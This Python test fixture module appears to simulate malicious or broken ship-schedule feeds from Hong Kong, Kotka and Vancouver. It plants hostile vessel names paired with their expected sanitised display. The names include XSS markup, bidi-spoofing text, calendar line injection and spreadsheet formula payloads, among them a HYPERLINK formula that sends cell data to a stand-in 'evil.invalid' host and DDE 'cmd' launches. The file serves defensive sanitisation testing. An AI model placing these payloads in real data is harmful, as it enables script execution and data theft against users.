"""What a publisher who means ill, or whose database is broken, could send: real formats, names that want to do harm."""

import json
from collections.abc import Iterable
from datetime import datetime, timedelta
from typing import Any
from xml.sax.saxutils import escape
from zoneinfo import ZoneInfo

HEBREW = "\u05e9\u05dc\u05d5\u05dd \u05d0\u05d1\u05d2"
NAMES = {
    "markup": ("<img src=x onerror=hit()><script>hit()</script>",) * 2,
    "breakout": ("\"'></bdi></a></title></option></text></svg><b onclick=hit() hx-get=/live hx-trigger=load>",) * 2,
    "script": ("javascript:hit()//</script><script>hit()//",) * 2,
    "turned": ("\u202epmal hcroP\u202c \u2066iso\u2069 \u2067lated", "pmal hcroP iso lated"),
    "hebrew": (f"{HEBREW} 12 (3)",) * 2,
    "arabic": ("\u0645\u0635\u0628\u0627\u062d 7",) * 2,
    "formula": ('=HYPERLINK("https://evil.invalid/?"&A1,"x")',) * 2,
    "plus": ("+1+cmd|' /C calc'!A0",) * 2,
    "minus": ("-2+3",) * 2,
    "at": ("@SUM(1+1)*cmd|' /C calc'!A0",) * 2,
    "wide formula": ("\uff1d1+1",) * 2,
    "lines": (
        "ONE\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:TWO;\\n,\tTHREE\u2028FOUR\x85FIVE",
        "ONE END:VEVENT BEGIN:VEVENT SUMMARY:TWO;\\n, THREE FOUR FIVE",
    ),
    "long": ("W" * 10_000, "W" * 120),
    "long words": ("MEDITERRANEAN " * 800, ("MEDITERRANEAN " * 9)[:120].rstrip()),
    "emoji": (
        "\U0001f6a2\U0001f525\U0001f468\u200d\U0001f469\u200d\U0001f467 {{ 7|add:7 }} {% now %} &lt;b&gt;",
        "\U0001f6a2\U0001f525\U0001f468\U0001f469\U0001f467 {{ 7|add:7 }} {% now %} &lt;b&gt;",
    ),
    "marks": ("Z" + "\u0310\u0324" * 200 + "ALGO", "Z\u0310\u0324\u0310\u0324ALGO"),
    "cdata": ("]]><![CDATA[<b>&amp;&nbsp;<!--",) * 2,
}
"""What is sent, and what is to be shown of it."""
ONLY_JSON = {
    "nul": ("NUL\0 \x1b[31mRED\x07\x7f", "NUL [31mRED"),
    "half": ("HALF \ud800 PAIR", "HALF PAIR"),
}
"""What XML has no way to say."""
SENT = {key: sent for key, (sent, _) in NAMES.items()}
SHOWN = {key: shown for key, (_, shown) in NAMES.items()}
SENT_AS_JSON = SENT | {key: sent for key, (sent, _) in ONLY_JSON.items()}
SHOWN_OF_JSON = SHOWN | {key: shown for key, (_, shown) in ONLY_JSON.items()}


def _call_sign(number: int, kind: int, name: str) -> str:
    return f"{number}{kind}{name}"


CALL_SIGNS = [
    "".join(_call_sign(number, kind, name).split()).upper()[:20]
    for number, name in enumerate(SHOWN_OF_JSON.values())
    for kind in range(3)
]
"""As they are shown in Kotka."""


def files(at: datetime, *, is_first: bool) -> dict[str, bytes]:
    """The answers of Hong Kong, Kotka and Vancouver around a moment; then every agent, berth and some names moved."""
    return mardep(at, is_first=is_first) | digitraffic(at, is_first=is_first) | ppa(at, is_first=is_first)


def _others(names: Iterable[str], is_first: bool) -> list[str]:
    """For each name the one that an agent or a berth has: first itself, then the next. Hebrew becomes Arabic."""
    listed = list(names)
    return listed if is_first else listed[1:] + listed[:1]


# --- Hong Kong ----------------------------------------------------------------------------------------------


def mardep(at: datetime, *, is_first: bool) -> dict[str, bytes]:
    def told(hours: float, style: str = "%Y/%m/%d %H:%M") -> str:
        return (at + timedelta(hours=hours)).astimezone(ZoneInfo("Asia/Hong_Kong")).strftime(style)

    lists: dict[str, list[dict[str, str]]] = {name: [] for name in ("RP04005i", "RP05005i", "RP06005i", "RP05505i")}
    for number, (name, other) in enumerate(zip(SENT.values(), _others(SENT.values(), is_first), strict=True)):
        her = {"VESSEL_NAME": name, "SHIP_TYPE": name, "AGENT_NAME": other}
        due = her | {"CALL_SIGN": f"D{number}<B>\"'&", "LAST_PORT": other, "ETA": told(5 + number)}
        here = her | {"CALL_SIGN": f"P{number}", "CURRENT_LOCATION": other}
        left = her | {"CALL_SIGN": f"X{number}", "ATD_TIME": told(-2), "LAST_BERTH": other}
        lists["RP04005i"].append(due)
        lists["RP05005i"].append(here | {"ARRIVAL_TIME": told(-9, "%d-%b-%Y %H:%M"), "REMARK": name})
        lists["RP06005i"].append(here | {"ARRIVAL_TIME": told(-9), "FLAG": name, "IMO_NO": name})
        lists["RP05505i"].append(left)
    return {f"{name}.XML": _xml(f"{name.upper()}XML", rows) for name, rows in lists.items()}


def unreadable(at: datetime) -> dict[str, bytes]:
    """Hong Kong's, which says when in words that the error then cites."""
    changed = mardep(at, is_first=False)
    content = changed["RP04005i.XML"].decode()
    before, *rest = content.split("<ETA>")
    bad = [f"<ETA>{escape(SENT['markup'])}{HEBREW}\u202e{after[after.index('</ETA>') :]}" for after in rest]
    return changed | {"RP04005i.XML": (before + "".join(bad)).encode()}


def _xml(root: str, rows: list[dict[str, str]]) -> bytes:
    entities = {"\r": "&#13;", "\n": "&#10;", "\t": "&#9;"}
    told = ("".join(f"<{field}>{escape(words, entities)}</{field}>" for field, words in row.items()) for row in rows)
    text = "".join(f"<G_SQL1>{row}</G_SQL1>" for row in told)
    return f'<?xml version="1.0" encoding="UTF-8"?><{root}>{text}</{root}>'.encode()


# --- Kotka --------------------------------------------------------------------------------------------------


def digitraffic(at: datetime, *, is_first: bool) -> dict[str, bytes]:
    def told(hours: float | None) -> str | None:
        return None if hours is None else (at + timedelta(hours=hours)).strftime("%Y-%m-%dT%H:%M:%SZ")

    calls = []
    names = SENT_AS_JSON.values()
    renamed = _others(names, not is_first)
    for number, (name, other, called) in enumerate(zip(names, _others(names, is_first), renamed, strict=True)):
        for kind, (eta, ata, atd) in enumerate(((6, None, None), (-5, -4, None), (-9, -8, -1))):
            area = {"eta": told(eta), "etd": told(20), "ata": told(ata), "atd": told(atd)}
            area |= {"berthName": other, "berthCode": other[-30:], "portAreaName": name, "portAreaCode": name[-30:]}
            calls.append(
                {
                    "portCallId": f"{number}-{kind} {name}",
                    "portToVisit": "FIKTK",
                    "prevPort": name,
                    "nextPort": other,
                    "vesselName": name if kind else called,
                    "radioCallSign": _call_sign(number, kind, name),
                    "imoLloyds": name,
                    "mmsi": 230_000_100 + 3 * number + kind,
                    "nationality": name,
                    "vesselTypeCode": name,
                    "agentInfo": [{"name": other, "role": 1}],
                    "portAreaDetails": [area],
                }
            )
    return {"FIKTK.json": json.dumps({"portCalls": calls}).encode()}


# --- Vancouver ----------------------------------------------------------------------------------------------


def ppa(at: datetime, *, is_first: bool) -> dict[str, bytes]:
    """Each name has a ship that came, one that is ordered in, and one that left."""
    jobs: list[dict[str, Any]] = []
    names = SENT_AS_JSON.values()
    sea, ways = ("BROTCHIE (SEA) (BRO)", "BRO"), ((-3, "Dispatched", True), (4, "Order", True), (-1, "Away", False))
    for number, (name, other) in enumerate(zip(names, _others(names, is_first), strict=True)):
        for kind, (hours, status, comes) in enumerate(ways):
            start, end = (sea, (other, "")) if comes else ((other, ""), sea)
            vessel = {"name": name, "type": name, "imo": name, "mmsi": f"3169{number:03}{kind:02}"}
            jobs.append(
                {
                    "id": f"{name[:20]} {number}-{kind}",
                    "status": status,
                    "orderTime": f"{at + timedelta(hours=hours - 1):%Y-%m-%dT%H:%M:%SZ}",
                    "etd": f"{at + timedelta(hours=hours):%Y-%m-%dT%H:%M:%SZ}",
                    "fromLocationName": start[0],
                    "fromLocationShortCode": start[1],
                    "toLocationName": end[0],
                    "toLocationShortCode": end[1],
                    "agencyName": other,
                    "remarks": name,
                    "vessel": vessel | {"flagRegistryName": name},
                }
            )
    return {"ppa.json": json.dumps({"result": "Succeed", "data": jobs}).encode()}
